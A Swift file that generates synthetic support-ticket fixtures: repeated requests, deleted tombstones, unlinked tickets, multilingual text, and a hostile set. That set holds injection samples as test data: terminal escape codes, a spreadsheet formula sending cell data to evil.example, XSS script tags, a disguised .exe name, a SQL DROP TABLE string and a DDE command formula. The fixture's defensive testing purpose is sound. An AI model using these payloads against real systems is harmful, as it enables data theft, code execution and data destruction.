extension Draft {
    /// What every real export holds and every demonstration leaves out: noise, ghosts, strangers and attacks.
    static func awkward(accounts: [ExampleAccount], seed: UInt64) -> [Draft] {
        var chance = Chance(seed: seed, name: "awkward")
        return insistent(accounts, &chance) + ghosts + strangers + hostile(accounts, &chance)
            + foreign(accounts, &chance)
    }

    /// One account, one wish, fourteen tickets: counted by account it is still one.
    private static func insistent(_ accounts: [ExampleAccount], _ chance: inout Chance) -> [Draft] {
        let account = id(of: ExampleCompany.insistentAccount, in: accounts)
        return (1...14).map { round in
            Draft(
                accountID: account, subject: "Dark mode (\(round))",
                body: chance.pick([
                    "Dark mode, please!!", "Where is the dark mode?", "Still no dark mode. I ask every week.",
                    "Everybody wants a dark theme. EVERYBODY.",
                ]), theme: "dark_mode")
        }
    }

    /// Deleted at the help desk: it stays in the feed as a tombstone.
    private static let ghosts = [
        Draft(subject: "SCRUBBED", body: "X", status: "deleted"),
        Draft(subject: "SCRUBBED", body: "X", status: "deleted"),
    ]

    /// Tickets that nobody could tie to an account.
    private static let strangers: [Draft] = [
        ("Trial", "I am on a trial. The export timed out twice. Is that what one pays for?", "export_timeout"),
        ("Question before buying", "Do people who only read need a seat?", "viewer_seats"),
        (
            "Re: Re: Fwd: report", "The scheduled report never arrived. I write from my private address.",
            "schedule_missed"
        ),
        ("Your web site", "The page about prices does not open on my phone.", "reading_on_phones"),
        ("Job application", "Please find my letter enclosed.", nil),
        ("Student project", "May I use a picture of your dashboard in my thesis?", nil),
    ]
    .map { Draft(subject: $0.0, body: $0.1, theme: $0.2) }

    /// Text that tries to act: on the terminal, in a spreadsheet, in a browser, on the eyes.
    private static func hostile(_ accounts: [ExampleAccount], _ chance: inout Chance) -> [Draft] {
        let texts: [(String, String, String?)] = [
            ("\u{1B}[2J\u{1B}]0;owned\u{07}Export", "The export just spins.\u{1B}[8m Hidden words.", "export_timeout"),
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Invoice\")", "It gets more expensive every year.",
                "renewal_increase"
            ),
            ("<script>alert('slow')</script>", "The dashboard is slow. <img src=x onerror=alert(1)>", "slow_reports"),
            ("Invoice \u{202E}fdp.exe\u{202C}", "My filter resets; see the enclosed file.", "filters_get_lost"),
            ("'; DROP TABLE tickets; --", "I must set the filters again. Robert", "filters_get_lost"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "Who can see this report?\u{200B}\u{200B}", "sharing_permissions"),
        ]
        return texts.map {
            Draft(accountID: id(of: chance.integer(in: 0...59), in: accounts), subject: $0.0, body: $0.1, theme: $0.2)
        }
    }

    /// Customers write as they speak; phrases in English find only what is English.
    private static func foreign(_ accounts: [ExampleAccount], _ chance: inout Chance) -> [Draft] {
        let texts = [
            (
                "Export bricht ab",
                "Guten Tag,\n\nder Export hängt seit heute früh. Größere Dateien kommen gar nicht an."
            ),
            ("レポートが遅い", "お世話になっております。\n朝のレポートが開くまで五分かかります。"),
            ("التقرير لم يصل", "مرحبا،\n\nالتقرير المجدول لم يصل اليوم."),
            ("Raport się nie otwiera", "Dzień dobry, raport otwiera się bardzo długo. Proszę o pomoc. Żółć!"),
            ("दो बार शुल्क", "नमस्ते, क्या केवल पढ़ने वालों के लिए भी शुल्क है? 🙏"),
            ("😤😤😤", "export just spins 😤 👩🏽‍💻 waiting for the report since 8:00 ☕️"),
        ]
        return texts.map {
            Draft(accountID: id(of: chance.integer(in: 0...59), in: accounts), subject: $0.0, body: $0.1)
        }
    }

    private static func id(of index: Int, in accounts: [ExampleAccount]) -> String? {
        accounts.indices.contains(index) ? accounts[index].id : nil
    }
}
